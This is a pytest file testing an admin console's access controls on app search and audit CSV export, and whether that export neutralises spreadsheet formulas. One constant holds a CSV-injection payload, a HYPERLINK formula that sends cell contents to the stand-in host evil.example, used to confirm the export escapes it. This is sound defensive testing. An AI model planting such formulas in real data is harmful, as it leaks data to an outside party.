"""The admin console's app search and audit export from the side of people who should not have them."""

import csv
import io

import pytest

from tests.support.admin_console import seed_apps
from tests.support.portal import register_and_read

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
GUARDED = [
    "/admin?q=owner&sort=calls&status=active",
    "/admin?page=2",
    "/admin/audit.csv",
    "/admin/audit.csv?action=signup",
]


@pytest.mark.parametrize("role", ["user", "developer"])
@pytest.mark.parametrize("path", GUARDED)
def test_app_list_and_export_are_refused_to_everyone_but_admins(client, auth, app, role, path):
    seed_apps(app, 60)
    auth.sign_in_as("someone@example.com", role=role)
    response = client.get(path)
    assert response.status_code == 403
    assert response.mimetype == "text/html" and "Content-Disposition" not in response.headers
    assert "owner1@example.com" not in response.text and "pa_client_seed" not in response.text


@pytest.mark.parametrize("path", GUARDED)
def test_signed_out_visitors_are_sent_to_sign_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and response.headers["Location"].startswith("/login?next=")


def test_a_formula_in_an_app_name_reaches_the_export_as_text(client, auth):
    auth.sign_in_as("mallory@example.com", role="developer")
    client_id, _ = register_and_read(client, name=FORMULA_NAME)
    auth.sign_in_as("admin@example.com", role="admin")
    response = client.get("/admin/audit.csv", query_string={"client_id": client_id})
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["action"] for row in rows] == ["app.created"]
    assert rows[0]["app"] == "'" + FORMULA_NAME
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
